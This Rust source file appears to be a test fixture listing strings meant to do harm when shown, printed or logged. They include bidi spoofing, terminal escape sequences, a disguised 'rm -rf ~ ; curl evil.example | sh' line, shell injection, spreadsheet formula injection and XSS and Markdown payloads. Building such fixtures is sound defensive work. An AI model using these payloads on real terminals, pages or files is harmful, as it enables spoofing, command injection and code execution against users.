//! Texts that are made to do harm where they are shown, printed or written into a record.

/// What it tries, and the text.
pub fn texts() -> Vec<(&'static str, String)> {
    let mut texts: Vec<(&str, String)> = PLAIN.iter().map(|(what, text)| (*what, (*text).to_owned())).collect();
    texts.extend([
        ("marks that pile up", format!("o{}k", "\u{336}\u{489}".repeat(250))),
        ("marks through joiners", format!("ب{}", "\u{64b}\u{200d}".repeat(250))),
        ("a very long word", "x".repeat(5_000)),
        ("a wide long word", "日".repeat(2_000)),
        ("a family without end", format!("👩{}", "\u{200d}👩".repeat(300))),
        ("many lines", "a\n".repeat(300)),
        ("tags that hide words", "ok".chars().chain("hidden".chars().filter_map(tag)).chain("!".chars()).collect()),
        (
            "every control character",
            (0..0xa0).filter_map(char::from_u32).filter(|c| c.is_control()).chain(['k']).collect(),
        ),
    ]);
    texts
}

fn tag(c: char) -> Option<char> {
    char::from_u32(0xe0000 + u32::from(c))
}

const PLAIN: [(&str, &str); 44] = [
    ("bidi override", "safe \u{202e}txt.exe"),
    ("bidi isolates", "a\u{2066}b\u{2069}c\u{2067}d"),
    ("right to left", "שלום עולם"),
    ("mixed directions", "abc مرحبا 123 שלום (x)"),
    ("clear the screen", "a\u{1b}[2J\u{1b}[1;1Hb"),
    ("window title", "a\u{1b}]0;owned\u{7}b"),
    ("clipboard", "a\u{1b}]52;c;b3duZWQ=\u{7}b"),
    ("link of a terminal", "a\u{1b}]8;;http://evil.example\u{1b}\\b\u{1b}]8;;\u{1b}\\"),
    ("one byte controls", "a\u{9b}31mb\u{9d}0;x\u{9c}c"),
    ("device request", "a\u{1b}[6n\u{1b}P$q\u{1b}\\b"),
    ("backspaces", "good\u{8}\u{8}\u{8}\u{8}evil"),
    ("back to the start", "good\revil"),
    ("zero width", "pass\u{200b}word\u{feff}\u{2060}\u{ad}x"),
    ("letters that do not show", "a\u{3164}\u{115f}\u{ffa0}b"),
    ("command of other letters", "rm -rf ~ ; сurl evil.example | ѕh"),
    ("shell", "$(touch owned) `touch owned` && touch owned"),
    ("not composed", "Zoe\u{308} A\u{30a}"),
    ("other line breaks", "a\u{85}b\u{2028}c\u{2029}d\u{b}e\u{c}f"),
    ("formula", "=HYPERLINK(\"http://evil.example\",\"x\")"),
    ("formula plus", "+1+cmd|' /C calc'!A0"),
    ("formula minus", "-2+3"),
    ("formula at", "@SUM(1+9)"),
    ("wide formula", "  \u{ff1d}1+1"),
    ("script", "<script>alert(1)</script>"),
    ("picture", "<img src=x onerror=alert(1)>"),
    ("style", "</p><style>*{display:none}</style>"),
    ("entity", "&lt;b&gt; &#60;b&#62; &amp;amp;"),
    ("comment", "<!-- --> <![CDATA[x]]> <?php x ?>"),
    ("Markdown picture", "![x](https://evil.example/x.png)"),
    ("Markdown link", "[click](javascript:alert(1))"),
    ("Markdown reference", "[x]: https://evil.example \"x\"\n[x]"),
    ("Markdown footnote", "[^1]\n[^1]: x"),
    ("address", "https://evil.example www.evil.example"),
    ("angled address", "<https://evil.example> <a@evil.example>"),
    ("Markdown blocks", "# heading\n- item\n+ item\n1. item\n2) item\n> quote\n---\n===\n***"),
    ("Markdown code", "```\ncode\n```\n    code\n~~~\ncode"),
    ("Markdown table", "a | b\n--- | ---\nc | d"),
    ("Markdown emphasis", "*a* **b** _c_ __d__ ~~e~~ `f` $g$ ^h^"),
    ("task", "[ ] a\n- [x] b"),
    ("escapes of escapes", "\\<b\\> \\\\[x](y) \\"),
    ("alert of a forge", "> [!WARNING]\n> x"),
    ("heading attributes", "x {#id .class onclick=y}"),
    ("front matter", "---\ntitle: x\n---"),
    ("numbers", "1. 10) 007. 3.50"),
];
